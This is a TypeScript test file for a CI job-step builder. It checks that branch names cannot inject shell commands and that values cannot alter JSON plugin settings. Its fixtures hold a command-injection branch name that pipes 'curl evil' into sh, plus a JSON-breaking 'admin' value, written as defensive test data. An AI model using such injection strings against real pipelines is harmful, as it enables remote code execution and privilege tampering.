import assert from 'node:assert/strict';
import { test } from 'node:test';
import { secretNamesIn, withSecretTexts } from '@airlock/common/wire/plan-secrets';
import { planStep, runFacts, runPlan } from '@airlock/common/testing/plans';
import { jobSteps } from './job-steps.ts';

const run = runFacts({
  ref: 'refs/heads/x";curl evil|sh;"',
  branch: 'x";curl evil|sh;"',
  subject: 'a\nsteps: []',
});
const plan = runPlan([
  planStep('build', {
    image: 'app:${CI_COMMIT_SHA:0:8}',
    commands: [
      'echo ${CI_COMMIT_SHA:0:8} ${CI_COMMIT_BRANCH} $$HOME',
      'echo ${CI_COMMIT_BRANCH:0:4}',
    ],
    environment: { TAG: 'v-${CI_PIPELINE_NUMBER}', OTHER: '${UNKNOWN}' },
  }),
]);

test('a branch name cannot write shell: only harmless slices are pasted into commands', () => {
  const [step] = jobSteps(plan, { name: 'woodpecker', instance: 0 }, run);
  assert.equal(step?.commands[0], 'echo 01234567 ${CI_COMMIT_BRANCH} $HOME');
  assert.equal(step.commands[1], 'echo ${AIRLOCK_VALUE_1}');
  assert.equal(step.environment['AIRLOCK_VALUE_1'], 'x";c');
  assert.equal(step.environment['CI_COMMIT_BRANCH'], run.branch);
  assert.equal(step.image, 'app:01234567');
  assert.equal(step.environment['TAG'], 'v-7');
  assert.equal(step.environment['OTHER'], '');
});

test('settings with JSON are filled text by text: a value cannot become a part of its structure', () => {
  const evil = 'x","admin":"yes';
  const base = plan.workflows[0];
  const step = base?.steps[0];
  if (base === undefined || step === undefined) assert.fail('no step');
  const environment = {
    PLUGIN_A: { json: '{"branch":"${CI_COMMIT_BRANCH}"}' },
    PLUGIN_B: { json: '[{"from_secret":"token"},"${CI_COMMIT_BRANCH}"]' },
  };
  const changed = { ...plan, workflows: [{ ...base, steps: [{ ...step, environment }] }] };
  const [filled] = jobSteps(changed, base, { ...run, branch: evil });
  assert.equal(filled?.environment['PLUGIN_A'], JSON.stringify({ branch: evil }));
  assert.deepEqual(secretNamesIn(filled.environment), ['token']);
  const given = withSecretTexts(filled.environment, new Map([['token', 'a"b']]));
  assert.deepEqual(JSON.parse(given['PLUGIN_B'] ?? ''), ['a"b', evil]);
  assert.throws(() => withSecretTexts(filled.environment, new Map()), /token was not given/);
});
